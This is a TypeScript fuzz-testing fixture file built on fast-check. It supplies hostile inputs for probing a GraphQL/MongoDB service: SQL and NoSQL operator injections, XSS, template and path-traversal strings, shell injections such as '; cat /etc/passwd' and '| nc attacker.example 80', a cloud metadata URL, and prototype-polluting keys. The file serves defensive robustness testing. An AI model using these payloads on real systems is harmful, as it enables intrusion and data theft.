import fc from 'fast-check';

/**
 * Values a hostile or careless client puts where the schema expects a string, an id or an object.
 * None of them contains a stack-frame-like text or a dependency's address, so that finding one in
 * an answer is a leak, never an echo of the input.
 */

/** SQL, NoSQL, script, template, shell and path-traversal injections, as strings. */
export const INJECTION_STRINGS: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE contacts; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5) --',
  "admin'--",
  "') UNION SELECT username, password FROM users --",
  '{"$gt": ""}',
  '{"$ne": null}',
  '{"$where": "sleep(1000) || true"}',
  '{"$regex": ".*"}',
  "'; return true; var x='",
  'this.constructor.constructor("return process")().exit()',
  '[$ne]=1',
  '$where',
  '$gt',
  'db.links.drop()',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '__proto__',
  'constructor',
  'prototype',
  '__proto__[polluted]=1',
  '\r\nSet-Cookie: session=stolen',
  '; cat /etc/passwd',
  '$(id)',
  '`id`',
  '| nc attacker.example 80',
  '.*',
  '^(a+)+$',
  '(a|aa)+b',
  '[',
  '\\',
  "'",
  '"',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '[]',
  '{}',
  'query { __schema { types { name } } }',
  '") { id } } mutation { deleteContact(id: "x") { id } } #',
  '%00',
  '%s%s%s%n',
  'Q29udGFjdDo', // base64url of "Contact:"
  Buffer.from('Contact:../../etc/passwd').toString('base64url'),
  Buffer.from('Contact:00000000-0000-0000-0000-000000000000 ').toString('base64url'),
  Buffer.from('Conflict:x:y').toString('base64url'),
];

/** Scripts, directions, emoji, invisible and control characters, and UTF-16 that is not well-formed. */
export const UNICODE_STRINGS: readonly string[] = [
  '😀🚀🔥',
  '👩‍👩‍👧‍👦 family',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u202Egnp.exe\u202C',
  '\u200F\u200E\u061C',
  'Ωμέγα Ελληνικά',
  '中文字符 日本語 한국어',
  'Z̴̡̛a̷̢l̸̨g̵̛o̶̧',
  'e\u0301\u0301\u0301',
  '\uFEFFbom',
  '\u200B\u200C\u200D\u2060',
  '\u2028\u2029',
  'a\u0000b',
  '\u0000',
  '\u0001\u0002\u001F\u007F',
  '\t\n\r\v\f',
  '\uD800',
  '\uDFFF',
  'x\uD83D',
  '\uDE00x',
  '\uDBFF\uDFFF',
  '\uFFFE\uFFFF',
  'ﷺ',
  'İ ı ß ẞ',
];

/** A code unit that is half of a surrogate pair, on its own. */
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((unit) => String.fromCharCode(unit));

/** Random text over the whole of Unicode, lone surrogates and control characters included. */
export const randomText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.string({
    unit: fc.oneof(loneSurrogate, fc.constantFrom('\u0000', '"', '\\', '{', '}', '$', "'", '\n')),
    maxLength: 12,
  }),
  fc.string({ unit: 'binary-ascii', maxLength: 40 }),
);

/**
 * Far beyond every field's length limit: 100,000 characters and more (which a 100 kB body limit may
 * refuse whole), and 20,000 or 50,000 (which get past it to the resolvers).
 */
export const oversizedString: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('a', 'é', '😀', "' OR 1=1 --", '<script>', '\u0000', '{"$gt": ""}', ' '),
    fc.constantFrom(20_000, 50_000, 100_000, 100_001, 120_000),
  )
  .map(([unit, length]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length));

/** Every kind of hostile string, weighted towards the named injections. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...INJECTION_STRINGS), weight: 10 },
  { arbitrary: fc.constantFrom(...UNICODE_STRINGS), weight: 6 },
  { arbitrary: randomText, weight: 6 },
  { arbitrary: fc.constantFrom('', ' ', '   ', '\t\n'), weight: 2 },
  { arbitrary: fc.constantFrom(...INJECTION_STRINGS).map((s) => s.repeat(5) + '😀'.repeat(3)), weight: 2 },
  // Rarer: each one is megabytes of work for the gateway.
  { arbitrary: oversizedString, weight: 1 },
);

/** MongoDB query operators, sent where the schema expects a scalar (a string, an id) or inside an input object. */
export const OPERATOR_INJECTIONS: readonly unknown[] = [
  { $gt: '' },
  { $ne: null },
  { $gte: 0 },
  { $where: 'sleep(1000) || true' },
  { $regex: '.*' },
  { $regex: '.*', $options: 'si' },
  { $exists: true },
  { $in: ['a', 'b'] },
  { $nin: [] },
  { $or: [{}, { _id: { $gt: '' } }] },
  { $expr: { $eq: [1, 1] } },
  { $function: { body: 'function() { return true }', args: [], lang: 'js' } },
  [{ $gt: '' }],
  { $gt: '', id: 'x' },
  { _id: { $ne: null } },
];

export const operatorInjection: fc.Arbitrary<unknown> = fc.constantFrom(...OPERATOR_INJECTIONS);

/** An object whose own keys include `key` (a plain assignment of `__proto__` would set the prototype). */
export function withOwnKey(target: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  return target;
}

/** Keys that pollute prototypes when merged naively into an object. */
export const POLLUTING_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  '__defineGetter__',
  'hasOwnProperty',
  'toString',
  'valueOf',
];

/** An object with a polluting key (and sometimes a legitimate field next to it). */
export const pollutingObject: fc.Arbitrary<Record<string, unknown>> = fc
  .tuple(
    fc.constantFrom(...POLLUTING_KEYS),
    fc.constantFrom<unknown>({ polluted: true }, { prototype: { polluted: true } }, 'polluted', null, 1),
    fc.boolean(),
  )
  .map(([key, value, withField]) => withOwnKey(withField ? { email: 'x@example.org' } : {}, key, value));

/** A JSON value of the wrong shape for almost any position. */
export const wrongJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  operatorInjection,
  pollutingObject,
  fc.constantFrom<unknown>(0, -1, 1.5, 2 ** 31, -(2 ** 53), 1e308, true, false, [], [null], ['a'], {}, { a: 1 }, 'x'),
  fc.jsonValue({ maxDepth: 3 }),
);
